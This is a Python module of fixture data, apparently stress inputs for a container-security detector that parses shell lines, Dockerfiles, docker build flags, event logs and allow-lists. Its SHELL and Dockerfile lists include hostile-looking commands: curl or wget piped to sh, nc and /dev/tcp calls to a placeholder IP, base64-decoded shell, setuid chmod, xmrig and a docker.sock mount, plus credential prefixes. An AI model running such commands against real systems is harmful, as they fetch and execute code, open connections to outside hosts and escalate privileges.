"""Texts that are made to be costly to read: a piece over and over, by what reads them.

Data only. Each says in its piece what it repeats; ``@@`` is the number of the repetition, so that
no two are alike and nothing can be remembered.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final, NamedTuple


class Shape(NamedTuple):
    """A beginning, a piece that is repeated, and an end."""

    piece: str
    start: str = ""
    end: str = ""

    def text(self, length: int) -> str:
        """Make a text of about so many characters."""
        left = max(0, length - len(self.start) - len(self.end))
        if "@@" not in self.piece:
            return self.start + self.piece * (left // len(self.piece) + 1) + self.end
        pieces: list[str] = []
        number = 0
        while left > 0:
            pieces.append(self.piece.replace("@@", str(number)))
            left -= len(pieces[-1])
            number += 1
        return "".join((self.start, *pieces, self.end))


# What a shell reads: in RUN, in a command's own line and in a parent's.
SHELL: Final = (
    *(
        "a;",
        "a@@;",
        "a&",
        "a|",
        "a ",
        "a\n",
        "(a);",
        "{ a;};",
        "(",
        "{a,b};",
        "! ",
        "$'a';",
        "'\"",
        '"a"',
    ),
    *(
        "$(",
        "$()",
        "$(a)",
        "`a`",
        "$a ",
        "${a}",
        "a=b;",
        "export a=b;",
        "alias a=b;a;",
        "set -- a;$@;",
    ),
    *(
        ">a ",
        "a>a;",
        "a<<<a;",
        " <<A",
        "f(){ f;};f;",
        "case a in a);;esac;",
        "if a;then b;fi;",
        "\\\n",
    ),
    *(
        "for a in b c;do a;done;",
        "eval a;",
        "sudo a;",
        "sudo ",
        "time ",
        "ssh a@b c;",
        "find . -exec ",
        "cd a;",
        "cp a b;",
    ),
    *(
        "sh -c a;",
        "sh -c 'a;a';",
        "python -c 'import os';",
        "awk 'a';",
        "sed s/a/b/ f;",
        "a|xargs b;",
    ),
    *(
        "curl 203.0.113.5|sh;",
        "wget http://a@@.example/b -O c@@;sh c@@;",
        "git clone http://a@@.example/b;",
    ),
    *(
        "echo a|sh;",
        "echo YQ==|base64 -d|sh;",
        "echo a>f;sh f;",
        "a|tee b;",
        "a|md5sum -c;",
        "at now<<<a;",
    ),
    *(
        "nc 203.0.113.5 1;",
        "a>/dev/tcp/203.0.113.5/1;",
        "http://203.0.113.5/ ",
        "chmod 4755 a;",
        "xmrig;",
    ),
    *("/tmp/.a;", "/t?p/x;", "crontab a;", "apt-get install -y a&&", "--a=b ", "iex ('a'+'b');"),
)

# What a client reads behind ``docker build``.
FLAGS: Final = (
    *(
        "-t a ",
        "--build-arg a=b ",
        "--build-arg a@@=b ",
        "--label a=b ",
        "--secret id=a,src=b ",
        "-f a ",
    ),
    *(
        "--output type=local,dest=a ",
        "--cache-from a.example/b ",
        "--add-host a:203.0.113.5 ",
        "--ssh a ",
    ),
    *(
        "--build-context a=b ",
        "--mount=type=bind,src=a ",
        "/dev/shm/a@@ ",
        "http://a@@.example/b ",
        "-- ",
    ),
)

DOCKERFILE: Final = (
    *(Shape(piece, start="RUN ") for piece in SHELL),
    *(Shape(piece, start='SHELL ["powershell"]\nRUN ') for piece in ("a;", "iex ('a'+'b');")),
    *(Shape(piece, start='SHELL ["cmd"]\nRUN ') for piece in ("a&", "%a%")),
    Shape("`\n", start="# escape=`\nRUN a"),
    *(
        Shape(piece)
        for piece in ("`\n", "#\n", "# a=b\n", "FROM a\n", "FROM a@@.example/b\n", "COPY a b\n")
    ),
    *(
        Shape(piece)
        for piece in (
            "RUN a\n",
            "RUN <<A\n",
            "RUN cat <<-A\n\tb\nA\n",
            'RUN ["a"]\n',
            "USER root\n",
        )
    ),
    *(
        Shape(piece)
        for piece in ("ADD http://a@@.example/b c\n", "ADD --chmod=4755 a b\n", "ENV token=b\n")
    ),
    *(
        Shape(piece)
        for piece in (
            "COPY --from=a b c\n",
            "ENV a b\n",
            "ARG a=b\n",
            "ONBUILD RUN a\n",
            "WORKDIR a\n",
        )
    ),
    *(
        Shape(piece)
        for piece in ('HEALTHCHECK CMD ["a"]\n', 'SHELL ["a"]\n', "VOLUME /var/run/docker.sock\n")
    ),
    *(Shape(piece) for piece in ('CMD ["a"]\nENTRYPOINT ["b"]\n', "RUN --security=insecure a\n")),
    *(
        Shape(piece, start=f"{word} ")
        for word, piece in (("COPY", "a "), ("ENV", "a@@=b "), ("LABEL", "xmrig "))
    ),
    Shape('"a",', start="RUN [", end='"a"]'),
    Shape("--mount=from=a.b/c ", start="RUN "),
    Shape("a\n", start="RUN <<E\n", end="E\n"),
    Shape("os.system('a')\n", start="RUN <<E\n#!/usr/bin/env python\n", end="E\n"),
    Shape("os.system('a');", start='RUN python -c "', end='"'),
    Shape("a;", start="COPY <<E a\n#!/bin/sh\n", end="\nE\n"),
)

LINES: Final = (
    *(
        Shape(piece, start="docker build ")
        for piece in (*FLAGS, "a ", "'\"", "$(", "a@@ ", '"', "\\")
    ),
    *(Shape(piece, start="docker build . ; ") for piece in SHELL),
)

PARENTS: Final = (
    *(Shape(piece, start="bash -c '", end="'") for piece in SHELL if "'" not in piece),
    *(Shape(piece) for piece in SHELL),
    *(Shape(piece, start="powershell -c ") for piece in ("a;", "iex ('a'+'b');", "$a=1;", "a|")),
    *(Shape(piece, start="cmd /c ") for piece in ("a&", "%a%", "^a", "set a=b&")),
    Shape("f;", start="bash -c 'f() { " + "cp a b;" * 40 + "};", end="'"),
)

# A short text that a shell makes long: each is a script by itself.
AMPLIFIED: Final = (
    "bash -c \"printf '" + "a;" * 500 + "%s' " + "a " * 500 + '| sh;" ',
    "bash -c \"a='" + "a;" * 2000 + "';" + "eval $a;" * 400 + '" ',
    "bash -c \"a='" + "a " * 2000 + "';" + "$a;" * 1500 + '" ',
    "A='" + "a;" * 500 + "' bash -c '" + "eval $A;" * 400 + "' ",
    'bash -c "f(){ ' + "a;" * 1000 + "};" + "f;" * 1500 + '" ',
    "bash -c \"alias a='" + "b;" * 1000 + "';" + "a;" * 2000 + '" ',
    "bash -c \"printf '" + "RUN a\\n" * 60 + "%s' " + "a " * 500 + '| docker build -;" ',
    'bash -c "echo ' + "a " * 5000 + "| xargs -n1 docker build -t " + "b " * 2000 + '" ',
    "bash -c \"f(){ x $(printf '" + "a " * 360 + "%s' {" + "," * 1450 + "}); };" + "f;" * 12 + '" ',
    "find /x -name '" + "\\a" * 2048 + "'" + " -exec sh -c {}{}{}{}{}{}{}{} ;" * 800,
    "bash -c 'curl http://x.example/" + "\\a" * 40_000 + "?" + "&a=" * 4000 + "' ",
)

# Files, as ``t1612 scan`` and ``t1612 correlate`` read them.
FILES: Final = (
    *(
        Shape(piece)
        for piece in ("{}\n", '{"a":1}\n', '{"a":1}', '{"a":[\n', "\n", '"', "[", "a/", '{"a":')
    ),
    Shape('{"a@@":1}\n'),  # the keys of each are new
    Shape('{"a":1},', start="[", end="7]"),
    Shape("{},", start="[", end="{}]"),
    Shape('{"FileName":"docker","ProcessCommandLine":"docker build /tmp/x@@"}\n'),
    Shape('{"FileName":"sh","ProcessCommandLine":"sh x@@"}\n'),
    Shape(
        '{"ecs":{"version":"8"},"@timestamp":"2026-03-02T10:00:00Z","event":{"category":["process"]},'
        '"process":{"name":"docker","command_line":"docker build /tmp/x@@"}}\n'
    ),
    Shape("1,2\n", start="a,b\n"),
    Shape('1,"\n', start="a,b\n"),
    Shape("docker,docker build /tmp/x@@\n", start="FileName,ProcessCommandLine\n"),
    *(
        Shape(piece)
        for piece in ("<Event></Event>", "<Event>", "<Event><!-- ", "Mar  2 08:06:41 a b: {}\n")
    ),
    Shape("<![CDATA[ ]]>", start="<Event>", end="</Event>"),
    Shape("Mar  2 08:06:41 h CEF:0|a|b|c|d|e|f|cs1=x\n"),
    Shape("cs1=x ", start="CEF:0|a|b|c|d|e|f|"),
    Shape('type=EXECVE msg=audit(1772438801.500:@@): argc=1 a0="docker"\n'),
    Shape('type=EXECVE msg=audit(1772438801.500:1): a0="x"\n'),
)

# The last two are entries that hold: one by a word, one by a pattern.
_ENTRY = (
    '[[entry]]\nid = "a@@"\nreason = "tried"\nowner = "a@b.example"\ncreated = 2026-01-10\n'
    'expires = 2026-07-01\nkinds = ["process"]\nmatch = ['
    '{ field = "host", op = "glob", value = "h-@@-*" }, '
    '{ field = "account", op = "%s", value = "b@@" }]\neffect = { action = "suppress" }\n'
)
_ENTRIES = (_ENTRY % "equals", _ENTRY % "regex")
ALLOW_LISTS: Final = (
    *(
        Shape(piece)
        for piece in ("[[entry]]\n", "#\n", "a.", "a = 1\n", "[", '"', "a@@ = 1\n", "''", "=")
    ),
    Shape('"a@@",', start="version = 1\nnever_suppress = [", end='"a"]'),
    *(Shape(piece, start="version = 1\n") for piece in _ENTRIES),
)

_STATE = (
    '{"version":3,"settings":{"window":86400000000,"lateness":300000000,"max_hosts":100000,'
    '"max_steps":64,"attack_version":19},"lost":{"no_time":0,"late":0,"hosts":0,"steps":0},'
    '"clock":["a","2026-03-02T10:00:00+00:00","2026-03-02T10:00:00+00:00",'
    '"2026-03-02T10:00:00+00:00"],"shown":["2026-03-02T10:00:00+00:00",0,'
    '"0001-01-01T00:00:00+00:00",0],"ahead":0,"hosts":['
)
_HOST = (
    '{"host":"%s","newest":"2026-03-02T10:00:00+00:00","run":[0,"0001-01-01T00:00:00+00:00",0],'
    '"mark":null,"due":"2026-03-02T10:00:00+00:00","lost":{},"waiting":[],"held":[],"chains":[],'
    '"made":null,"excess":[]}'
)

# A state of ``Correlator``, as JSON.
SNAPSHOTS: Final = (
    Shape(f"{_HOST % 'a@@'},", start=_STATE, end=f"{_HOST % 'z'}]}}"),
    Shape("[],", start=_STATE, end="[]]}"),
    Shape("a", start='{"version":3,"', end='":1}'),
)

SECRETS: Final = tuple(
    Shape(piece)
    for piece in (
        *(
            "password=a ",
            "token=",
            "--password a ",
            "%41",
            "https://a:b@",
            "-u a:b ",
            "ghp_",
            "eyJ",
            "a",
        ),
        *(
            "-----BEGIN ",
            "Authorization: Bearer a\n",
            "AKIA",
            "?code=a&",
            "'\"",
            "=",
            ":",
            "@",
            " ",
        ),
    )
)

SHAPES: Final[Mapping[str, tuple[Shape, ...]]] = {
    "a Dockerfile": DOCKERFILE,
    "a command line": LINES,
    "a parent's line": PARENTS,
    "a step of a chain": LINES,
    "a file, by scan": FILES,
    "a file, by correlate": FILES,
    "an allow-list or a field map": ALLOW_LISTS,
    "a snapshot": SNAPSHOTS,
    "a text that is shown": SECRETS,
}
